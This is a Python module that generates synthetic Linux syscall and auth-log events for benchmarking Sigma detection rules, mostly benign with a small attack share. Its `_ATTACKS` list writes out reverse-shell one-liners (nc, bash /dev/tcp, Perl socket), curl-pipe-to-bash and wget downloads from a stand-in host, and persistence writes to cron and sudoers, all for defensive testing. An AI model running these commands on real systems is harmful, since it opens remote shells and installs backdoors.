"""Generated Linux events for the Sigma benchmarks: a documented, mostly benign mix.

`EVENT_MIX` is the share of each kind of event (per 1000). The processes, files, peers and
command lines come from small pools, as on a real server where a few dozen programs do
almost everything; numbers in command lines and temp-file names vary so that strings are
not all identical. About 0.5 % of events are attacks (reverse shells, droppers, persistence
writes, callbacks) so that rules fire and matches can be compared.

`generate_benign_events` is the benign corpus of `bench/sigma_auditd.py`: the same mix
without the attacks, plus `HOST_MIX`, the ordinary work of a host that auditd's watches
look at (login shells reading their rc files, PAM and login.defs reads, history files,
dotfiles, system-information reads, unit files, sysctl, programs under ~/.local).

Syscall events carry the argument registers (`Event.regs`) the sensor would report,
derived from their arguments (no extra random draws, so a seed gives the same events as
before registers existed).
"""

from __future__ import annotations

import random
import shlex
from typing import Iterator

from vigil.events.model import Event, FdInfo, Process

O_WRONLY, O_CREAT, O_TRUNC, O_APPEND = 0o1, 0o100, 0o1000, 0o2000

#: kind -> events per 1000
EVENT_MIX: dict[str, int] = {
    "open_read": 400,      # openat O_RDONLY of libraries, configs, /proc
    "open_write": 120,     # openat for writing: logs, temp files, caches
    "exec": 100,           # execve of everyday commands
    "connect": 100,        # TCP/UDP client connections (and a few unix sockets)
    "accept": 40,          # inbound connections to sshd/nginx
    "fs_other": 140,       # unlinkat, renameat2, fchmodat, mkdirat
    "misc_syscall": 20,    # sysinfo, personality, setuid ...
    "log": 75,             # sshd/sudo/cron log lines
    "attack": 5,           # the malicious minority
}

_USERS = [("root", 0), ("www-data", 33), ("postgres", 113), ("alice", 1000)]
_DAEMONS = [  # (comm, exepath, argv, user)
    ("nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], "www-data"),
    ("python3", "/usr/bin/python3.11", ["python3", "/opt/app/server.py"], "www-data"),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres", ["postgres", "-D", "/var/lib/pg"],
     "postgres"),
    ("sshd", "/usr/sbin/sshd", ["sshd", "-D"], "root"),
    ("systemd-journal", "/usr/lib/systemd/systemd-journald", ["systemd-journald"], "root"),
    ("cron", "/usr/sbin/cron", ["cron", "-f"], "root"),
    ("node", "/usr/bin/node", ["node", "/srv/api/index.js"], "alice"),
    ("bash", "/usr/bin/bash", ["bash"], "alice"),
    ("containerd", "/usr/bin/containerd", ["containerd"], "root"),
    ("rsyslogd", "/usr/sbin/rsyslogd", ["rsyslogd", "-n"], "root"),
]
_READ_PATHS = [
    "/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/proc/self/stat", "/proc/meminfo", "/etc/passwd", "/etc/group", "/etc/hosts",
    "/etc/nsswitch.conf", "/etc/resolv.conf", "/etc/localtime", "/var/www/html/index.html",
    "/etc/nginx/nginx.conf", "/opt/app/templates/base.html", "/usr/share/zoneinfo/UTC",
    "/var/lib/pg/base/16384/2619", "/srv/api/node_modules/express/index.js",
    "/etc/ssl/certs/ca-certificates.crt", "/sys/fs/cgroup/cpu.max", "/etc/os-release",
    "/proc/loadavg", "/etc/ssh/sshd_config", "/usr/lib/python3.11/json/__init__.py",
]
_WRITE_PATHS = [
    "/var/log/nginx/access.log", "/var/log/app/app.log", "/var/lib/pg/pg_wal/{n:08X}",
    "/tmp/tmp{n}", "/home/alice/.cache/pip/{n}", "/run/user/1000/bus.{n}",
    "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db", "/var/log/syslog",
    "/var/tmp/systemd-private-{n}/x", "/srv/api/uploads/{n}.png",
]
_COMMANDS = [  # argv templates; {n} varies
    "ls -la /var/www/html", "cat /etc/os-release", "grep -r TODO /opt/app/src",
    "git status", "git pull --ff-only", "python3 /opt/app/manage.py migrate",
    "sh -c 'run-parts --report /etc/cron.hourly'", "systemctl status nginx",
    "sed -i s/v{n}/v{m}/ /opt/app/VERSION", "awk '{{print $1}}' /var/log/nginx/access.log",
    "curl -s https://api.example.com/health", "apt-get update", "dpkg -l",
    "ps aux", "ss -tlnp", "id", "whoami", "sleep {n}", "find /tmp -mtime +7 -type f",
    "rm -f /tmp/tmp{n}", "tar -czf /backup/www-{n}.tgz /var/www", "gzip -9 /var/log/app/app.log.1",
    "mkdir -p /srv/api/uploads/{n}", "chmod 644 /var/www/html/page{n}.html",
    "node /srv/api/worker.js --job {n}", "psql -c 'select {n}'", "logrotate /etc/logrotate.conf",
    "date +%s", "df -h", "du -sh /var/lib/pg", "head -n {n} /var/log/syslog",
    "wc -l /var/log/nginx/access.log", "journalctl -u nginx --since -{n}m",
    "ip -brief addr", "uname -r", "hostname", "cp /opt/app/config.yaml /opt/app/config.yaml.bak",
]
_BIN = {"ls": "/usr/bin/ls", "cat": "/usr/bin/cat", "grep": "/usr/bin/grep", "git": "/usr/bin/git",
        "python3": "/usr/bin/python3.11", "sh": "/usr/bin/dash", "systemctl": "/usr/bin/systemctl",
        "sed": "/usr/bin/sed", "awk": "/usr/bin/gawk", "curl": "/usr/bin/curl",
        "apt-get": "/usr/bin/apt-get", "dpkg": "/usr/bin/dpkg", "ps": "/usr/bin/ps",
        "ss": "/usr/bin/ss", "id": "/usr/bin/id", "whoami": "/usr/bin/whoami",
        "sleep": "/usr/bin/sleep", "find": "/usr/bin/find", "rm": "/usr/bin/rm",
        "tar": "/usr/bin/tar", "gzip": "/usr/bin/gzip", "mkdir": "/usr/bin/mkdir",
        "chmod": "/usr/bin/chmod", "node": "/usr/bin/node", "psql": "/usr/bin/psql",
        "logrotate": "/usr/sbin/logrotate", "date": "/usr/bin/date", "df": "/usr/bin/df",
        "du": "/usr/bin/du", "head": "/usr/bin/head", "wc": "/usr/bin/wc",
        "journalctl": "/usr/bin/journalctl", "ip": "/usr/bin/ip", "uname": "/usr/bin/uname",
        "hostname": "/usr/bin/hostname", "cp": "/usr/bin/cp", "bash": "/usr/bin/bash",
        "nc": "/usr/bin/nc", "wget": "/usr/bin/wget", "perl": "/usr/bin/perl",
        "chattr": "/usr/bin/chattr", "crontab": "/usr/bin/crontab", "base64": "/usr/bin/base64"}
_PEERS = [("10.0.0.{n}", 5432), ("203.0.113.{n}", 443), ("127.0.0.1", 6379),
          ("198.51.100.{n}", 80), ("10.0.1.{n}", 53), ("2001:db8::{n}", 443)]
_LOG_LINES = [
    ("sshd", "Nov 26 12:00:{s:02d} web sshd[{n}]: Accepted publickey for alice from 10.0.0.{m} port {n} ssh2"),
    ("sshd", "Nov 26 12:00:{s:02d} web sshd[{n}]: Failed password for root from 203.0.113.{m} port {n} ssh2"),
    ("sshd", "Nov 26 12:00:{s:02d} web sshd[{n}]: Connection closed by 203.0.113.{m} port {n} [preauth]"),
    ("sudo", "Nov 26 12:00:{s:02d} web sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
    ("CRON", "Nov 26 12:00:{s:02d} web CRON[{n}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
    ("systemd", "Nov 26 12:00:{s:02d} web systemd[1]: Started session-{n}.scope - Session {n} of User alice."),
]
_ATTACKS = [  # (kind, spec)
    ("exec", "python3 -c \"import os; os.system('/bin/sh')\""),
    ("exec", "nc -e /bin/bash 203.0.113.66 4444"),
    ("exec", "sh -c 'curl -s http://203.0.113.66/x.sh | bash'"),
    ("exec", "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"),
    ("exec", "wget http://203.0.113.66/p -O /tmp/p"),
    ("exec", "chattr -i /etc/passwd"),
    ("exec", "crontab -l"),
    ("exec", "base64 -d /tmp/p.b64"),
    ("exec", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("tmpexec", "/tmp/.x/implant"),
    ("write", "/etc/cron.d/persist"),
    ("write", "/etc/sudoers.d/backdoor"),
    ("write", "/root/.bashrc"),
    ("callback", "203.0.113.66:4444"),
]


class EventFactory:
    """Builds the events of the mix from a seeded random generator."""

    def __init__(self, seed: int = 7) -> None:
        self.rnd = random.Random(seed)
        self.daemons = [self._proc(c, e, a, u) for c, e, a, u in _DAEMONS]
        kinds = []
        for kind, share in EVENT_MIX.items():
            kinds += [kind] * share
        self.kinds = kinds

    def _proc(self, comm: str, exepath: str, argv: list[str], user: str,
              parent: Process | None = None) -> Process:
        uid = dict(_USERS)[user]
        return Process(pid=self.rnd.randint(300, 60000), ppid=1, name=comm[:15], exe=argv[0],
                       exepath=exepath, args=argv[1:], cwd="/", user=user, uid=uid, euid=uid,
                       loginuid=uid, parent=parent)

    def _n(self) -> int:
        return self.rnd.randint(1, 250)

    def _exec_proc(self, cmd: str) -> Process:
        argv = shlex.split(cmd)
        exepath = argv[0] if argv[0].startswith("/") else _BIN.get(argv[0], f"/usr/bin/{argv[0]}")
        parent = self.rnd.choice(self.daemons)
        # interactive and cron work as root/alice; the web server's user rarely runs programs
        user = self.rnd.choices(["root", "alice", "postgres", "www-data"], (45, 45, 8, 2))[0]
        return self._proc(argv[0].rsplit("/", 1)[-1], exepath, argv, user, parent)

    def event(self, ts: int) -> Event:
        """One event of a kind drawn from `EVENT_MIX`."""
        return self.make(self.rnd.choice(self.kinds), ts)

    def make(self, kind: str, ts: int) -> Event:
        """One event of `kind` (a key of `EVENT_MIX`)."""
        r = self.rnd
        if kind == "open_read":
            path = r.choice(_READ_PATHS)
            return Event(type="openat", ts=ts, res=5, proc=r.choice(self.daemons),
                         args={"dirfd": -100, "name": path, "flags": 0o2000000, "mode": 0},
                         fd=FdInfo(num=5, type="file", name=path))
        if kind == "open_write":
            path = r.choice(_WRITE_PATHS).format(n=self._n())
            return Event(type="openat", ts=ts, res=6, proc=r.choice(self.daemons),
                         args={"dirfd": -100, "name": path,
                               "flags": O_WRONLY | O_CREAT | O_APPEND, "mode": 0o640},
                         fd=FdInfo(num=6, type="file", name=path))
        if kind == "exec":
            cmd = r.choice(_COMMANDS).format(n=self._n(), m=self._n())
            return Event(type="execve", ts=ts, res=0, proc=self._exec_proc(cmd))
        if kind == "connect":
            proc = r.choice(self.daemons)
            if r.random() < 0.15:
                return Event(type="connect", ts=ts, res=0, proc=proc,
                             fd=FdInfo(num=7, type="unix", name="/run/postgresql/.s.PGSQL.5432"))
            ip, port = r.choice(_PEERS)
            ip = ip.format(n=self._n())
            fam = "ipv6" if ":" in ip else "ipv4"
            res = -115 if r.random() < 0.3 else 0  # non-blocking connects: EINPROGRESS
            return Event(type="connect", ts=ts, res=res, proc=proc, fd=FdInfo(
                num=7, type=fam, l4proto="udp" if port == 53 else "tcp", lip="10.0.0.2",
                lport=r.randint(32768, 60999), rip=ip, rport=port, role="client"))
        if kind == "accept":
            return Event(type="accept4", ts=ts, res=8, proc=self.daemons[r.choice((0, 3))],
                         fd=FdInfo(num=8, type="ipv4", l4proto="tcp", lip="10.0.0.2",
                                   lport=r.choice((22, 443)), rip=f"198.51.100.{self._n()}",
                                   rport=r.randint(1024, 65535), role="server"))
        if kind == "fs_other":
            etype = r.choice(("unlinkat", "renameat2", "fchmodat", "mkdirat"))
            path = f"/tmp/tmp{self._n()}"
            args = {"dirfd": -100, "name": path} if etype != "renameat2" else \
                {"olddirfd": -100, "oldpath": path, "newdirfd": -100, "newpath": path + ".done"}
            return Event(type=etype, ts=ts, res=0, proc=r.choice(self.daemons), args=args)
        if kind == "misc_syscall":
            etype = r.choice(("sysinfo", "personality", "setuid"))
            args = {"persona": 0} if etype == "personality" else {"uid": 33} \
                if etype == "setuid" else {}
            return Event(type=etype, ts=ts, res=0, proc=r.choice(self.daemons), args=args)
        if kind == "log":
            prog, line = r.choice(_LOG_LINES)
            return Event(type="auth.log", ts=ts, source="auth", proc=Process(name=prog),
                         raw=line.format(n=self._n(), m=self._n(), s=r.randint(0, 59)))
        return self.attack(ts)

    def attack(self, ts: int) -> Event:
        """One of the malicious events."""
        kind, spec = self.rnd.choice(_ATTACKS)
        if kind in ("exec", "tmpexec"):
            return Event(type="execve", ts=ts, res=0, proc=self._exec_proc(spec))
        if kind == "write":
            return Event(type="openat", ts=ts, res=3, proc=self.daemons[7],
                         args={"dirfd": -100, "name": spec, "flags": O_WRONLY | O_CREAT | O_TRUNC,
                               "mode": 0o644}, fd=FdInfo(num=3, type="file", name=spec))
        ip, _, port = spec.rpartition(":")
        return Event(type="connect", ts=ts, res=0, proc=self._exec_proc("/tmp/.x/implant"),
                     fd=FdInfo(num=3, type="ipv4", l4proto="tcp", lip="10.0.0.2", lport=40000,
                               rip=ip, rport=int(port), role="client"))


_HAS_REGS = "regs" in getattr(Event, "__struct_fields__", ())
_PTR = 0x7FFD2A10


def with_regs(ev: Event) -> Event:
    """`ev` with the registers the kernel would have seen for its arguments."""
    if not _HAS_REGS or ev.source != "syscall" or ev.type in ("execve", "execveat"):
        return ev
    a = ev.args
    t = ev.type
    if t == "openat":
        regs = (0xFFFFFF9C, _PTR, a.get("flags", 0), a.get("mode", 0))
    elif t in ("unlinkat", "mkdirat", "fchmodat"):
        regs = (0xFFFFFF9C, _PTR, a.get("flags", a.get("mode", 0)))
    elif t == "renameat2":
        regs = (0xFFFFFF9C, _PTR, 0xFFFFFF9C, _PTR + 64, 0)
    elif t == "connect":
        fam = ev.fd.type if ev.fd is not None else None
        regs = (7, _PTR, {"ipv4": 16, "ipv6": 28}.get(fam or "", 110))
    elif t in ("accept4", "accept"):
        regs = (4, _PTR, _PTR + 128, 0x80800)
    elif t == "personality":
        regs = (a.get("persona", 0),)
    elif t == "setuid":
        regs = (a.get("uid", 0),)
    elif t in ("syslog",):
        regs = (a.get("type", 0), _PTR, 0)
    else:
        regs = (_PTR,)
    ev.regs = tuple(regs) + (0,) * (6 - len(regs))
    return ev


def generate_events(n: int, seed: int = 7) -> Iterator[Event]:
    """`n` events of the documented mix, deterministic for a seed."""
    factory = EventFactory(seed)
    ts = 1_795_000_000_000_000_000
    for i in range(n):
        yield with_regs(factory.event(ts + i * 1000))


#: the host's ordinary work that auditd's file watches see, per 1000 benign events
HOST_MIX: dict[str, int] = {
    "login_rc_read": 60,   # a login shell reads /etc/profile, bash.bashrc, ~/.bashrc ...
    "pam_read": 40,        # sshd, sudo, cron, su read /etc/pam.d/*, login.defs
    "history_write": 15,   # bash, less, vim write ~/.bash_history, ~/.lesshst, ~/.viminfo
    "dotfile_read": 40,    # git, ssh, pip read ~/.gitconfig, ~/.ssh/known_hosts, caches
    "sysinfo_read": 25,    # /etc/os-release, /etc/issue, /proc/version, DMI by motd, facts
    "unit_read": 15,       # systemctl and systemd read unit files
    "sysctl_read": 5,      # sysctl and monitoring read /proc/sys, /etc/sysctl.conf
    "local_exec": 10,      # programs run from ~/.local/bin, ~/.vscode-server, ~/.cargo
}
_HOME = "/home/alice"
_HOST_PATHS = {
    "login_rc_read": ["/etc/profile", "/etc/bash.bashrc", "/etc/profile.d/bash_completion.sh",
                      "/etc/profile.d/01-locale-fix.sh", f"{_HOME}/.profile",
                      f"{_HOME}/.bashrc", "/root/.profile", "/root/.bashrc", "/etc/shells"],
    "pam_read": ["/etc/pam.d/common-auth", "/etc/pam.d/common-account",
                 "/etc/pam.d/common-password", "/etc/pam.d/common-session", "/etc/pam.d/sshd",
                 "/etc/pam.d/sudo", "/etc/pam.d/cron", "/etc/login.defs",
                 "/etc/security/limits.conf"],
    "history_write": [f"{_HOME}/.bash_history", f"{_HOME}/.lesshst", f"{_HOME}/.viminfo",
                      "/root/.bash_history"],
    "dotfile_read": [f"{_HOME}/.gitconfig", f"{_HOME}/.ssh/known_hosts",
                     f"{_HOME}/.ssh/config", f"{_HOME}/.cache/pip/http/5/a/b/c",
                     f"{_HOME}/.config/git/ignore", f"{_HOME}/.npmrc",
                     f"{_HOME}/.local/lib/python3.11/site-packages/six.py"],
    "sysinfo_read": ["/etc/os-release", "/etc/lsb-release", "/etc/debian_version",
                     "/etc/issue", "/proc/version", "/sys/class/dmi/id/product_name",
                     "/sys/class/dmi/id/bios_version", "/etc/hostname"],
    "unit_read": ["/etc/systemd/system/multi-user.target.wants/nginx.service",
                  "/usr/lib/systemd/system/nginx.service", "/usr/lib/systemd/system/ssh.service",
                  "/etc/systemd/system/timers.target.wants/logrotate.timer"],
    "sysctl_read": ["/proc/sys/kernel/sysrq", "/etc/sysctl.conf", "/proc/sys/vm/swappiness",
                    "/proc/sys/kernel/randomize_va_space"],
}
_HOST_READERS = {  # kind -> (comm, exepath, argv) of the processes that do it
    "login_rc_read": [("bash", "/usr/bin/bash", ["-bash"]), ("sh", "/usr/bin/dash", ["-sh"])],
    "pam_read": [("sshd", "/usr/sbin/sshd", ["sshd: alice [priv]"]),
                 ("sudo", "/usr/bin/sudo", ["sudo", "systemctl", "restart", "nginx"]),
                 ("cron", "/usr/sbin/cron", ["/usr/sbin/CRON", "-f"]),
                 ("su", "/usr/bin/su", ["su", "-", "postgres"])],
    "history_write": [("bash", "/usr/bin/bash", ["-bash"]), ("less", "/usr/bin/less",
                                                             ["less", "/var/log/syslog"]),
                      ("vim", "/usr/bin/vim.basic", ["vim", "/etc/nginx/nginx.conf"])],
    "dotfile_read": [("git", "/usr/bin/git", ["git", "pull", "--ff-only"]),
                     ("ssh", "/usr/bin/ssh", ["ssh", "deploy@10.0.1.5"]),
                     ("pip", "/usr/bin/python3.11", ["pip", "install", "-r", "req.txt"]),
                     ("npm", "/usr/bin/node", ["npm", "ci"])],
    "sysinfo_read": [("run-parts", "/usr/bin/run-parts", ["run-parts", "/etc/update-motd.d"]),
                     ("python3", "/usr/bin/python3.11", ["python3", "/usr/bin/lsb_release",
                                                          "-a"]),
                     ("hostnamectl", "/usr/bin/hostnamectl", ["hostnamectl"]),
                     ("node_exporter", "/usr/bin/prometheus-node-exporter",
                      ["/usr/bin/prometheus-node-exporter"])],
    "unit_read": [("systemctl", "/usr/bin/systemctl", ["systemctl", "status", "nginx"]),
                  ("systemd", "/usr/lib/systemd/systemd", ["/sbin/init"])],
    "sysctl_read": [("sysctl", "/usr/sbin/sysctl", ["sysctl", "-a"]),
                    ("node_exporter", "/usr/bin/prometheus-node-exporter",
                     ["/usr/bin/prometheus-node-exporter"])],
}
_LOCAL_PROGRAMS = [f"{_HOME}/.local/bin/black --check src",
                   f"{_HOME}/.vscode-server/bin/a1b2c3/node {_HOME}/.vscode-server/out/x.js",
                   f"{_HOME}/.cargo/bin/cargo build --release",
                   f"{_HOME}/.local/bin/poetry install"]


class BenignFactory(EventFactory):
    """`EVENT_MIX` without the attacks, plus `HOST_MIX`."""

    def __init__(self, seed: int = 7) -> None:
        super().__init__(seed)
        kinds = [k for k in self.kinds if k != "attack"]
        for kind, share in HOST_MIX.items():
            kinds += [kind] * share
        self.kinds = kinds
        self.readers = {k: [self._proc(c, e, a, "root" if c in ("sshd", "cron", "systemd",
                                                                 "sudo", "su") else "alice")
                            for c, e, a in v] for k, v in _HOST_READERS.items()}

    def event(self, ts: int) -> Event:
        """One event of a kind drawn from the benign mix."""
        kind = self.rnd.choice(self.kinds)
        r = self.rnd
        if kind == "local_exec":
            return Event(type="execve", ts=ts, res=0,
                         proc=self._exec_proc(r.choice(_LOCAL_PROGRAMS)))
        if kind in _HOST_PATHS:
            path = r.choice(_HOST_PATHS[kind])
            proc = r.choice(self.readers[kind])
            flags = O_WRONLY | O_APPEND | O_CREAT if kind == "history_write" else 0o2000000
            return Event(type="openat", ts=ts, res=4, proc=proc,
                         args={"dirfd": -100, "name": path, "flags": flags, "mode": 0o600},
                         fd=FdInfo(num=4, type="file", name=path))
        return self.make(kind, ts)


def generate_benign_events(n: int, seed: int = 7) -> Iterator[Event]:
    """`n` benign events (`BenignFactory`), deterministic for a seed."""
    factory = BenignFactory(seed)
    ts = 1_796_000_000_000_000_000
    for i in range(n):
        yield with_regs(factory.event(ts + i * 1000))
